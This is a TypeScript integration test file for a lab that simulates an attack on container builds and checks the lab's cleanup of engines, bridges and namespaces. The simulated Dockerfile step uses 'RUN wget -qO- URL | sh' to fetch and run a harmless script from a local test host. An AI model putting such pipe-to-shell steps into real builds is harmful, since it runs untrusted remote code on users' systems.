import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildAsAttacker,
  buildAsDeveloper,
  carryOutAttack,
  setupScript,
} from '../../src/lab/attack.js';
import { makeBaseImage } from '../../src/lab/base-image.js';
import { command } from '../../src/lab/command.js';
import { useRunningEngine } from '../../src/lab/engine.js';
import { type ExternalHost, startExternalHost } from '../../src/lab/external-host.js';
import { type PrivateEngine, startEngine } from '../../src/lab/private-engine.js';
import { processes } from '../../src/lab/processes.js';
import { sweep } from '../../src/lab/release.js';

const base = 'alpine:3.20';
let engine: PrivateEngine;
let host: ExternalHost;

beforeAll(async () => {
  engine = await startEngine();
  host = await startExternalHost({ files: { '/setup.sh': setupScript } });
  await makeBaseImage(engine, base);
});

afterAll(async () => {
  await host?.stop();
  await engine?.stop();
});

/** All that an engine and a host could leave on the machine, as sentences. */
async function remains(of: {
  directory: string;
  bridge: string;
  namespace?: string;
  /** Part of the arguments of what runs in its containers. */
  mark?: string;
}): Promise<string[]> {
  const links = (await command('ip', ['-br', 'link'])).stdout;
  const namespaces = (await command('ip', ['netns'])).stdout.split(/\s+/);
  const mounts = readFileSync('/proc/self/mountinfo', 'utf8').split('\n');
  const running = processes().filter(({ argv }) =>
    argv.some(
      (word) =>
        word.startsWith(`${of.directory}/`) || (of.mark !== undefined && word.includes(of.mark)),
    ),
  );
  return [
    ...running.map(({ argv }) => `process ${argv.join(' ')}`),
    ...mounts.filter((line) => line.includes(`${of.directory}/`)).map((line) => `mount ${line}`),
    ...(links.includes(`${of.bridge} `) ? [`link ${of.bridge}`] : []),
    ...(of.namespace !== undefined && namespaces.includes(of.namespace) ? [of.namespace] : []),
    ...(existsSync(of.directory) ? [`directory ${of.directory}`] : []),
  ];
}

describe('an attack in the lab', () => {
  it.each(['classic', 'buildkit'] as const)(
    'runs the external script in a step of %s',
    async (builder) => {
      const tag = `weather-${builder}`;
      const url = host.url('/setup.sh');
      const before = host.log().split('\n').length;
      const { built, deployed } = await carryOutAttack({
        engine,
        baseImage: base,
        builder,
        tag,
        url,
      });

      expect(built.finished).toMatchObject({ code: 0 });
      expect(built.finished.stdout + built.finished.stderr).toContain(
        'a harmless script ran in a build step',
      );
      expect(built.dockerfile).toMatch(/^\/tmp\/.+\/Dockerfile$/);
      expect(readFileSync(built.dockerfile, 'utf8')).toContain(`RUN wget -qO- ${url} | sh`);
      expect(
        host
          .log()
          .split('\n')
          .slice(before - 1)
          .join(),
      ).toMatch(/172\.30\.\d+\.\d+\]:\d+: response:200/);
      const container = deployed?.container ?? 'none';
      const left = await engine.docker(['exec', container, 'cat', '/keelwatch-was-here']);
      expect(left.stdout).toBe('a harmless script ran here\n');
      const logs = await engine.docker(['logs', container]);
      expect(logs.stdout).toBe('keelwatch: a harmless container runs\n');

      await built.remove();
      expect(existsSync(built.dockerfile)).toBe(false);
    },
  );

  it.each(['classic', 'buildkit'] as const)(
    'reaches an IPv6 address in the network of the host, %s',
    async (builder) => {
      const url = host.url6('/setup.sh') ?? 'no IPv6 here';
      const built = await buildAsAttacker({
        engine,
        baseImage: base,
        builder,
        tag: null,
        url,
        hostNetwork: true,
      });
      expect(built.image).toMatch(/^sha256:[0-9a-f]{64}$/);
      expect(host.log()).toMatch(/\[2001:db8:\d+::1\]:\d+: response:200/);
      await built.remove();
    },
  );

  it.each(['classic', 'buildkit'] as const)('may fail in its last step, %s', async (builder) => {
    const attack = {
      engine,
      baseImage: base,
      builder,
      tag: 'failed',
      url: host.url('/setup.sh'),
      fails: true,
    };
    const { built, deployed } = await carryOutAttack({ ...attack, args: ['--no-cache'] });
    expect(built.finished.code).not.toBe(0);
    expect(built.image).toBeNull();
    expect(deployed).toBeNull();
    expect((await engine.docker(['image', 'inspect', 'failed'])).code).toBe(1);
    await built.remove();
  });
});

it.each(['classic', 'buildkit'] as const)(
  'an attack that is broken off in its step leaves no client and no step, %s',
  async (builder) => {
    const mark = `${200_000_000 + process.pid}`;
    host.serve('/slow.sh', `sleep ${mark}`);
    const running = () => processes().filter(({ argv }) => argv.join(' ').includes(mark));
    const inStep = () => running().some(({ argv }) => argv[0] === 'sleep');
    const stop = new AbortController();
    const attack = carryOutAttack({
      engine,
      baseImage: base,
      builder,
      tag: `slow-${mark}`,
      url: host.url('/slow.sh'),
      signal: stop.signal,
    });
    await expect.poll(inStep, { timeout: 20_000 }).toBe(true);
    expect(running().map(({ argv }) => argv[0])).toEqual(expect.arrayContaining(['sh', 'docker']));
    stop.abort();
    const { built, deployed } = await attack;
    expect(built.finished.code).not.toBe(0);
    expect(deployed).toBeNull();
    await expect.poll(running, { timeout: 20_000 }).toEqual([]);
    await built.remove();
  },
);

it.each(['classic', 'buildkit'] as const)(
  'a developer builds outside of temporary directories, %s',
  async (builder) => {
    const before = host.log();
    const built = await buildAsDeveloper({ engine, baseImage: base, builder, tag: 'hello' });
    expect(built.finished.code).toBe(0);
    expect(built.image).toMatch(/^sha256:/);
    expect(built.dockerfile).not.toMatch(/\/tmp\//);
    expect(host.log()).toBe(before);
    await built.remove();
    expect(existsSync(built.dockerfile)).toBe(false);
  },
);

describe('an engine of our own', () => {
  it('keeps its images when it crashes and is started again', async () => {
    await engine.kill('SIGKILL');
    expect(engine.pid()).toBeNull();
    await engine.restart();
    expect((await engine.docker(['image', 'inspect', base])).code).toBe(0);
  });

  it('works beside another, with a host of its own, and leaves nothing', async () => {
    const other = await startEngine();
    const elsewhere = await startExternalHost({ files: { '/setup.sh': setupScript } });
    expect(other.bridge).not.toBe(engine.bridge);
    expect(elsewhere.address).not.toBe(host.address);
    await makeBaseImage(other, base);
    const attacks = await Promise.all(
      [
        { engine, url: host.url('/setup.sh') },
        { engine: other, url: elsewhere.url('/setup.sh') },
      ].map((target) =>
        carryOutAttack({
          ...target,
          baseImage: base,
          builder: 'classic',
          tag: 'both',
          args: ['--no-cache'],
        }),
      ),
    );
    expect(attacks.map(({ deployed }) => deployed?.finished.code)).toEqual([0, 0]);
    await Promise.all(attacks.map(({ built }) => built.remove()));
    const network = (await other.docker(['network', 'create', 'of-somebody'])).stdout.slice(0, 12);
    const { directory, bridge } = other;
    const { namespace } = elsewhere;
    expect(await remains({ directory, bridge, namespace })).not.toEqual([]);
    expect(await remains({ directory, bridge: `br-${network}` })).toContain(`link br-${network}`);

    await other.stop();
    await elsewhere.stop();
    expect(await remains({ directory, bridge, namespace })).toEqual([]);
    expect(await remains({ directory, bridge: `br-${network}` })).toEqual([]);
    expect((await engine.docker(['version'])).code).toBe(0);
  });

  it('says why it does not start, and leaves nothing', async () => {
    await expect(startEngine({ args: ['--storage-driver=nonsense'] })).rejects.toThrow(
      /dockerd did not start: .*driver not supported/,
    );
  });
});

/** Every image and container on the engine; the engine lists those of the same second in any order. */
async function contents(): Promise<string[][]> {
  const lists = [await engine.docker(['images', '-aq']), await engine.docker(['ps', '-aq'])];
  return lists.map(({ stdout }) => stdout.split('\n').sort());
}

describe("somebody else's engine", () => {
  it('is as it was, when what was made on it is let go', async () => {
    const before = await contents();
    const borrowed = await useRunningEngine(engine.endpoint);
    if (borrowed === null) throw new Error('the engine does not answer');
    await expect(makeBaseImage(borrowed, base)).rejects.toThrow(`has an image ${base} already`);
    const baseImage = 'keelwatch-demo/base';
    await makeBaseImage(borrowed, baseImage);
    const attack = { engine: borrowed, baseImage, url: host.url('/setup.sh') };
    for (const builder of ['classic', 'buildkit'] as const) {
      for (const tag of [`borrowed-${builder}`, null]) {
        const { built } = await carryOutAttack({ ...attack, builder, tag });
        expect(built.finished.code).toBe(0);
        await built.remove();
        const failed = await carryOutAttack({ ...attack, builder, tag: null, fails: true });
        await failed.built.remove();
      }
    }
    const [images, containers] = await contents();
    expect(images).not.toEqual(before[0]);
    expect(containers).not.toEqual(before[1]);

    await borrowed.stop();
    expect(await contents()).toEqual(before);
  });

  it('is none where nobody answers', async () => {
    expect(await useRunningEngine('unix:///nowhere/docker.sock')).toBeNull();
    expect(await useRunningEngine('tcp://127.0.0.1:1')).toBeNull();
  });
});

describe('when the owner of an engine dies', () => {
  interface Owned {
    directory: string;
    bridge: string;
    namespace: string;
    mark: string;
  }

  async function startOwner(): Promise<{ owner: ChildProcess; owned: Owned }> {
    const script = fileURLToPath(new URL('./lab-owner.ts', import.meta.url));
    const owner = spawn(process.execPath, ['--import', import.meta.resolve('tsx'), script], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    for await (const chunk of owner.stdout) {
      return { owner, owned: JSON.parse(String(chunk)) as Owned };
    }
    throw new Error('the owner ended before its engine ran');
  }

  it.each(['SIGKILL', 'SIGINT', 'SIGTERM'] as const)(
    'by %s, its watchdog clears all away',
    async (signal) => {
      const { owner, owned } = await startOwner();
      expect(await remains(owned)).not.toEqual([]);
      owner.kill(signal);
      for (let waited = 0; waited < 20_000 && (await remains(owned)).length > 0; waited += 250) {
        await sleep(250);
      }
      expect(await remains(owned)).toEqual([]);
    },
  );

  it('together with its watchdog, the next start clears all away', async () => {
    const { owner, owned } = await startOwner();
    const watchdogs = processes().filter(
      ({ parent, argv }) => parent === owner.pid && argv.some((word) => word.includes('sweep-now')),
    );
    expect(watchdogs).toHaveLength(1);
    for (const { pid } of watchdogs) process.kill(-pid, 'SIGKILL');
    owner.kill('SIGKILL');
    await sleep(1500);
    expect(await remains(owned)).not.toEqual([]);

    await sweep();
    expect(await remains(owned)).toEqual([]);
    expect((await engine.docker(['version'])).code).toBe(0);
  });
});
